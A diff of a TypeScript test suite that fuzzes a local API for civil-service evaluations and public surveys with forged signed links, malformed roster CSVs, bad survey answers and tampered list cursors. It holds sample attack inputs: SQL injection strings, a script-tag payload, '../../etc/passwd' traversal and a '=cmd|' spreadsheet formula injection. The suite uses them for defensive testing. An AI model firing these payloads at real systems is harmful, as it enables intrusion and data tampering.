   const flip = (s: string, at: number) => `${s.slice(0, at)}${s[at] === 'A' ? 'B' : 'A'}${s.slice(at + 1)}`;
   const forgedLinks: [string, Record<string, string>, string?][] = [
     ['tampered signature', { ...validLink, s: flip(validLink.s!, 5) }],
@@ -385,49 +604,119 @@ async function buildRequests(): Promise<Hostile[]> {
     ['expiry not a number', { ...validLink, e: '1e10' }],
     ['injection in the fields', { ...validLink, a: "approve' OR 1=1 --", r: '<script>alert(1)</script>' }],
     ['hostile decision id in the path', validLink, '../../etc/passwd'],
-    ...sampleOf(fc.nat({ max: 42 }), 8, 600).map((at) => ['fast-check signature flip', { ...validLink, s: flip(validLink.s!, at) }] as [string, Record<string, string>]),
+    ...sampleOf(fc.nat({ max: 42 }), 8, 600).map(
+      (at) => ['fast-check signature flip', { ...validLink, s: flip(validLink.s!, at) }] as [string, Record<string, string>],
+    ),
   ];
   for (const [name, fields, id] of forgedLinks) {
     out.push({ category: `forged decision link: ${name}`, method: 'GET', target: link(fields, id) });
     out.push({ category: `forged decision link: ${name}`, method: 'HEAD', target: link(fields, id) });
-    const form = new URLSearchParams({ ...Object.fromEntries(Object.entries(fields).filter(([f]) => f !== 'd')), decision: 'approve', comment: 'Setuju' }).toString();
-    out.push({ category: `forged decision link: ${name}`, method: 'POST', target: `/v1/decisions/${pct(id ?? decisionId)}`, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: form });
+    const form = new URLSearchParams({
+      ...Object.fromEntries(Object.entries(fields).filter(([f]) => f !== 'd')),
+      decision: 'approve',
+      comment: 'Setuju',
+    }).toString();
+    out.push({
+      category: `forged decision link: ${name}`,
+      method: 'POST',
+      target: `/v1/decisions/${pct(id ?? decisionId)}`,
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: form,
+    });
   }
   // A genuine link with a form that must be refused: a return without a reason, an unknown decision.
-  for (const form of [{ decision: 'return', comment: '   ' }, { decision: 'maybe', comment: 'x' }, { decision: 'approve', comment: 'x'.repeat(2001) }, { decision: '', comment: '' }]) {
-    out.push({ category: 'genuine link, refused form', method: 'POST', target: `/v1/decisions/${decisionId}`, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ ...validLink, ...form }).toString(), expect: 422 });
+  for (const form of [
+    { decision: 'return', comment: '   ' },
+    { decision: 'maybe', comment: 'x' },
+    { decision: 'approve', comment: 'x'.repeat(2001) },
+    { decision: '', comment: '' },
+  ]) {
+    out.push({
+      category: 'genuine link, refused form',
+      method: 'POST',
+      target: `/v1/decisions/${decisionId}`,
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: new URLSearchParams({ ...validLink, ...form }).toString(),
+      expect: 422,
+    });
   }
   // The same field twice (the first signed, the second forged).
-  out.push({ category: 'forged decision link: duplicated field', method: 'POST', target: `/v1/decisions/${decisionId}`, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `${new URLSearchParams({ ...validLink, decision: 'approve' }).toString()}&a=return` });
+  out.push({
+    category: 'forged decision link: duplicated field',
+    method: 'POST',
+    target: `/v1/decisions/${decisionId}`,
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: `${new URLSearchParams({ ...validLink, decision: 'approve' }).toString()}&a=return`,
+  });
 
   // 10 · roster CSVs the importer refuses (all or nothing: one bad row and nothing is stored).
   const csv = API_DOCS['POST /v1/roster/import']!.body!.example as string;
-  const rows = csv.split('\r\n').filter(Boolean).map((line) => line.split(';'));
-  const csvArb = fc.oneof(
-    fc.tuple(fc.integer({ min: 1, max: rows.length - 1 }), fc.integer({ min: 0, max: rows[0]!.length - 1 }), hostileString)
-      .map(([row, col, v]) => rows.map((r, i) => (i === row ? r.map((c, j) => (j === col ? `"${v.replace(/"/g, '""')}"` : c)) : r).join(';')).join('\r\n')),
-    fc.integer({ min: 0, max: rows[0]!.length - 1 }).map((col) => rows.map((r) => r.filter((_, j) => j !== col).join(';')).join('\r\n')),
-    fc.constantFrom('=cmd|\' /C calc\'!A0', '"unclosed;quote', 'NIP;Nama\r\n1,97704E+17;X', '\u0000\u0000', 'sep=|\r\nNIP|Nama'),
-    hostileString,
-  ).filter((text) => parseRosterCsv(text).errors.length > 0);
+  const rows = csv
+    .split('\r\n')
+    .filter(Boolean)
+    .map((line) => line.split(';'));
+  const csvArb = fc
+    .oneof(
+      fc
+        .tuple(fc.integer({ min: 1, max: rows.length - 1 }), fc.integer({ min: 0, max: rows[0]!.length - 1 }), hostileString)
+        .map(([row, col, v]) => rows.map((r, i) => (i === row ? r.map((c, j) => (j === col ? `"${v.replace(/"/g, '""')}"` : c)) : r).join(';')).join('\r\n')),
+      fc.integer({ min: 0, max: rows[0]!.length - 1 }).map((col) => rows.map((r) => r.filter((_, j) => j !== col).join(';')).join('\r\n')),
+      fc.constantFrom("=cmd|' /C calc'!A0", '"unclosed;quote', 'NIP;Nama\r\n1,97704E+17;X', '\u0000\u0000', 'sep=|\r\nNIP|Nama'),
+      hostileString,
+    )
+    .filter((text) => parseRosterCsv(text).errors.length > 0);
   for (const text of sampleOf(csvArb, 24, 650)) {
-    out.push({ category: 'roster CSV the importer refuses', method: 'POST', target: '/v1/roster/import', headers: { ...auth(tokens.hr), 'content-type': 'text/csv; charset=utf-8' }, body: text });
+    out.push({
+      category: 'roster CSV the importer refuses',
+      method: 'POST',
+      target: '/v1/roster/import',
+      headers: { ...auth(tokens.hr), 'content-type': 'text/csv; charset=utf-8' },
+      body: text,
+    });
   }
 
   // 11 · citizens: survey answers the rules refuse, markup and control characters, unknown units, bad keys.
   const answersArb = fc.oneof(
     fc.array(fc.integer({ min: 1, max: 4 }), { maxLength: 20 }).filter((a) => a.length !== 9),
-    fc.array(fc.oneof(fc.integer({ min: -5, max: 9 }), fc.double({ noNaN: true })), { minLength: 9, maxLength: 9 }).filter((a) => a.some((x) => !Number.isInteger(x) || x < 1 || x > 4)),
+    fc
+      .array(fc.oneof(fc.integer({ min: -5, max: 9 }), fc.double({ noNaN: true })), { minLength: 9, maxLength: 9 })
+      .filter((a) => a.some((x) => !Number.isInteger(x) || x < 1 || x > 4)),
   );
-  for (const answers of sampleOf(answersArb, 12, 700)) out.push({ category: 'SKM answers the rules refuse', method: 'POST', target: `/v1/public/units/${subject.unitId}/skm`, body: JSON.stringify({ answers }) });
+  for (const answers of sampleOf(answersArb, 12, 700))
+    out.push({ category: 'SKM answers the rules refuse', method: 'POST', target: `/v1/public/units/${subject.unitId}/skm`, body: JSON.stringify({ answers }) });
   for (const comment of ['<script>alert(1)</script>', 'Bagus <b>sekali</b>', 'nul\u0000byte', 'bell\u0007', 'x'.repeat(5000)]) {
-    out.push({ category: 'SKM comment with markup or control characters', method: 'POST', target: `/v1/public/units/${subject.unitId}/skm`, body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3], comment }) });
+    out.push({
+      category: 'SKM comment with markup or control characters',
+      method: 'POST',
+      target: `/v1/public/units/${subject.unitId}/skm`,
+      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3], comment }),
+    });
   }
   for (const key of ['short', 'has space here', "x' OR 1=1 --", '../../../etc', 'a'.repeat(129)]) {
-    out.push({ category: 'SKM hostile Idempotency-Key', method: 'POST', target: `/v1/public/units/${subject.unitId}/skm`, headers: { 'idempotency-key': key }, body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }), expect: 400 });
+    out.push({
+      category: 'SKM hostile Idempotency-Key',
+      method: 'POST',
+      target: `/v1/public/units/${subject.unitId}/skm`,
+      headers: { 'idempotency-key': key },
+      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }),
+      expect: 400,
+    });
   }
-  for (const unit of ['kel-tidak-ada', 'pemkot-surabaya-x']) out.push({ category: 'SKM unknown unit', method: 'POST', target: `/v1/public/units/${unit}/skm`, body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }), expect: 404 });
-  out.push({ category: 'SKM unknown field', method: 'POST', target: `/v1/public/units/${subject.unitId}/skm`, body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3], nik: '3578010101900001' }), expect: 400 });
+  for (const unit of ['kel-tidak-ada', 'pemkot-surabaya-x'])
+    out.push({
+      category: 'SKM unknown unit',
+      method: 'POST',
+      target: `/v1/public/units/${unit}/skm`,
+      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }),
+      expect: 404,
+    });
+  out.push({
+    category: 'SKM unknown field',
+    method: 'POST',
+    target: `/v1/public/units/${subject.unitId}/skm`,
+    body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3], nik: '3578010101900001' }),
+    expect: 400,
+  });
 
   return out;
 }
@@ -450,7 +739,10 @@ const routeOf = (method: string, target: string): Route | undefined => {
 function undocumented(h: Hostile, res: Answer): string | undefined {
   const route = routeOf(h.method, h.target);
   const type = res.contentType.split(';')[0]!.trim();
-  if (!route) return res.status === 404 && type === 'application/json' && validGatewayMessage(JSON.parse(res.body)) ? undefined : 'an unrouted request must get API Gateway’s 404';
+  if (!route)
+    return res.status === 404 && type === 'application/json' && validGatewayMessage(JSON.parse(res.body))
+      ? undefined
+      : 'an unrouted request must get API Gateway’s 404';
   // API Gateway answers 413 over its limit on any route, before any handler (documented only where a body is expected).
   if (res.status === 413 && type === 'application/json') return validGatewayMessage(JSON.parse(res.body)) ? undefined : 'not a gateway message';
   const spec = openapi.paths[route.path][route.method.toLowerCase()].responses[String(res.status)];
@@ -469,7 +761,12 @@ describe('hostile requests on the local stack', () => {
 
   it('builds at least 500 hostile requests over every route', () => {
     expect(requests.length).toBeGreaterThanOrEqual(500);
-    const touched = new Set(requests.map((r) => routeOf(r.method, r.target)).filter((r) => r !== undefined).map(ROUTE_KEY));
+    const touched = new Set(
+      requests
+        .map((r) => routeOf(r.method, r.target))
+        .filter((r) => r !== undefined)
+        .map(ROUTE_KEY),
+    );
     expect(ROUTES.map(ROUTE_KEY).filter((k) => !touched.has(k))).toEqual([]);
   });
 
@@ -488,7 +785,9 @@ describe('hostile requests on the local stack', () => {
         if (why) failures.push(`${why}; ${where}`);
       }
     });
-    console.log(`hostile requests: ${requests.length}\n${[...byCategory].map(([c, m]) => `  ${c}: ${[...m].map(([s, n]) => `${s}×${n}`).join(' ')}`).join('\n')}`);
+    console.log(
+      `hostile requests: ${requests.length}\n${[...byCategory].map(([c, m]) => `  ${c}: ${[...m].map(([s, n]) => `${s}×${n}`).join(' ')}`).join('\n')}`,
+    );
     expect(failures).toEqual([]);
   }, 60_000);
 
@@ -498,7 +797,12 @@ describe('hostile requests on the local stack', () => {
   });
 
   it('(control) the snapshot does notice a write: one genuine survey answer changes it', async () => {
-    const res = await send({ category: 'control', method: 'POST', target: `/v1/public/units/${subject.unitId}/skm`, body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }) });
+    const res = await send({
+      category: 'control',
+      method: 'POST',
+      target: `/v1/public/units/${subject.unitId}/skm`,
+      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }),
+    });
     expect(res.status).toBe(201);
     const after = await snapshot();
     expect(after.count).toBeGreaterThan(before.count);
@@ -514,14 +818,25 @@ describe('hostile requests on the local stack', () => {
 describe('HR list cursors are tamper-proof', () => {
   const forged: [string, () => Record<string, unknown>][] = [
     ['a key of the wrong shape', () => ({ PK: 'x', SK: 'y' })],
-    ['a well-formed key forged inside the unit', () => ({ GSI1PK: `CYCLE#${CYCLE}#UNIT#${subject.unitId}`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: `EVAL#${CYCLE}#0`, SK: 'EVAL' })],
-    ['a well-formed key of another unit', () => ({ GSI1PK: `CYCLE#${CYCLE}#UNIT#kel-asemrowo`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: `EVAL#${CYCLE}#0`, SK: 'EVAL' })],
+    [
+      'a well-formed key forged inside the unit',
+      () => ({ GSI1PK: `CYCLE#${CYCLE}#UNIT#${subject.unitId}`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: `EVAL#${CYCLE}#0`, SK: 'EVAL' }),
+    ],
+    [
+      'a well-formed key of another unit',
+      () => ({ GSI1PK: `CYCLE#${CYCLE}#UNIT#kel-asemrowo`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: `EVAL#${CYCLE}#0`, SK: 'EVAL' }),
+    ],
     ['an empty object', () => ({})],
   ];
   for (const [name, key] of forged) {
     it(`an unsigned cursor — ${name} — is refused with 400`, async () => {
       const cursor = Buffer.from(JSON.stringify(key())).toString('base64url');
-      const res = await send({ category: 'cursor', method: 'GET', target: `/v1/cycles/${CYCLE}/evaluations?unitId=${pct(subject.unitId)}&cursor=${cursor}`, headers: { authorization: `Bearer ${tokens.hr}` } });
+      const res = await send({
+        category: 'cursor',
+        method: 'GET',
+        target: `/v1/cycles/${CYCLE}/evaluations?unitId=${pct(subject.unitId)}&cursor=${cursor}`,
+        headers: { authorization: `Bearer ${tokens.hr}` },
+      });
       expect(res.status, res.body.slice(0, 200)).toBe(400);
     });
   }
